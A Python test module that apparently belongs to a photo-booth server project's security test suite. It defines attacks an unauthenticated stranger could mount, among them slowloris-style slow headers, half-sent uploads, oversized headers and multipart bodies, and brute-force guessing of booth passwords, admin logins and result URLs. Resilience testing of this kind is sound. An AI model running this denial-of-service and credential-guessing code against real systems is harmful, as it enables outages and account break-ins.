"""Attacks of those who have nothing but the address of the server."""

import itertools
import json
import secrets
import time
import uuid
from contextlib import suppress

from photochanger.testing.attack.target import (
    Attack,
    Target,
    in_threads,
    make_photo_post,
    make_post,
    open_many,
    send_in_turn,
)


def send_heads_slowly(target: Target) -> None:
    """300 connections, each a letter of its head a second."""
    with open_many(target, 300) as sockets:
        for letter in itertools.cycle(b"GET /livez HTTP/1.1\r\nX-Slow: " + b"a" * 200):
            if target.is_over:
                return
            for each in sockets:
                with suppress(OSError):
                    each.send(bytes([letter]))
            time.sleep(1)


def leave_bodies_half_sent(target: Target) -> None:
    """200 photos whose second half never comes."""
    head = (
        "POST /ingest/slot-001 HTTP/1.1\r\nHost: x\r\nContent-Length: 2000000\r\n"
        "Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
        'Content-Disposition: form-data; name="fileToUpload"; filename="a.jpg"\r\n\r\n'
    )
    with open_many(target, 200) as sockets:
        for each in sockets:
            with suppress(OSError):
                target.line.carry(100_000)
                each.sendall(head.encode() + b"\xff\xd8\xff\xe0" + bytes(100_000))
        while not target.is_over:
            time.sleep(0.2)


def send_endless_heads(target: Target) -> None:
    """Heads that grow until somebody says no."""
    line = b"X-Long: " + b"a" * 8000 + b"\r\n"

    def grow(target: Target) -> None:
        time.sleep(0.02)
        with target.connect() as one:
            one.sendall(b"GET / HTTP/1.1\r\n")
            while not target.is_over:
                target.line.carry(len(line))
                one.sendall(line)

    in_threads(grow, target, 10)


def read_no_answer(target: Target) -> None:
    """50 connections ask 200 times in one breath and take no answer."""
    breath = b"GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 200
    with open_many(target, 50) as sockets:
        while not target.is_over:
            for each in sockets:
                each.settimeout(0.05)
                with suppress(OSError):
                    target.line.carry(len(breath))
                    each.sendall(breath)
            time.sleep(0.5)


def send_many_parts(target: Target) -> None:
    """Forms of 20,000 parts each."""
    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
    body = part * 20_000 + b"--b--\r\n"
    request = make_post("/ingest/slot-001", body, "multipart/form-data; boundary=b")
    send_in_turn(target, 8, lambda: request)


def guess_booth_passwords(target: Target) -> None:
    photo = b"\xff\xd8\xff\xe0" + bytes(2000)
    send_in_turn(target, 32, lambda: make_photo_post("slot-001", secrets.token_hex(5), photo))


def guess_administrators(target: Target) -> None:
    def make_request() -> bytes:
        who = {"username": secrets.token_hex(4), "password": secrets.token_hex(8)}
        return make_post("/api/login", json.dumps(who).encode(), "application/json")

    send_in_turn(target, 32, make_request)


def guess_results(target: Target) -> None:
    ends = itertools.cycle(("", "/page", "/preview", "/qr.svg"))

    def make_request() -> bytes:
        path = f"/public/results/{uuid.uuid4()}{next(ends)}"
        return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()

    send_in_turn(target, 16, make_request)


def look_at_galleries(target: Target) -> None:
    """The pages of an open gallery in turn, each by another name of the server's."""
    tails = itertools.cycle(("", "?format=json", "/slideshow", "?format=fragment", "/qr.svg"))
    ports = itertools.count(1024)

    def make_request() -> bytes:
        path, host = f"/public/slots/slot-001{next(tails)}", f"localhost:{next(ports) % 65536}"
        return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()

    send_in_turn(target, 32, make_request)


STRANGERS: list[Attack] = [
    *(send_heads_slowly, leave_bodies_half_sent, send_endless_heads, read_no_answer),
    *(send_many_parts, guess_booth_passwords, guess_administrators, guess_results),
    look_at_galleries,
]
